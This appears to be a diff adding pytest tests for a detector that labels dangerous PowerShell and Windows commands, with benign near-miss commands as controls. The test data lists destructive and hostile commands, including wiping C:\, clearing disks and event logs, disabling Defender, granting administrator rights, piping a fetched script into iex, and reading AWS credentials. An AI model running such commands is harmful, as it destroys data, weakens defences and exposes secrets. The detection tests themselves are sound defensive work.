@@ -1,0 +1,40 @@
+"""The few PowerShell and Windows commands that matter."""
+
+import pytest
+
+from tests.support.commands import facts_of
+
+HITS = [
+    ("Remove-Item -Recurse -Force C:\\\\", "deletes-root"),
+    ("Remove-Item -Recurse project", "deletes-tree"),
+    ("rmdir /s /q C:\\\\", "deletes-root"),
+    ("rmdir /s /q build", "deletes-tree"),
+    ("Clear-Disk -Number 0", "overwrites-disk"),
+    ("net localgroup Administrators me /add", "adds-root-user"),
+    ("Add-LocalGroupMember -Group Administrators -Member me", "adds-root-user"),
+    ("Set-MpPreference -DisableRealtimeMonitoring 1", "disables-guard"),
+    ("wevtutil cl System", "wipes-logs"),
+    ("schtasks /create /tn x", "installs-service"),
+    ("taskkill /im * /f", "kills-all"),
+    ("Stop-Process -Name * -Force", "kills-all"),
+    ("iwr https://x.example/p.ps1 | iex", "executes-fetched"),
+    ("Get-Content C:/Users/a/.aws/credentials", "reads-secret"),
+]
+MISSES = [
+    ("Remove-Item notes.txt", "deletes-tree"),
+    ("rmdir empty", "deletes-tree"),
+    ("net localgroup Users me /add", "adds-root-user"),
+    ("taskkill /pid 7", "kills-all"),
+    ("iwr https://x.example -OutFile p.ps1", "executes-fetched"),
+    ("Get-Content notes.txt", "reads-secret"),
+]
+
+
+@pytest.mark.parametrize(("command", "fact"), HITS)
+def test_the_deed_is_seen(command: str, fact: str) -> None:
+    assert fact in facts_of(command)
+
+
+@pytest.mark.parametrize(("command", "fact"), MISSES)
+def test_its_neighbour_is_not(command: str, fact: str) -> None:
+    assert fact not in facts_of(command)
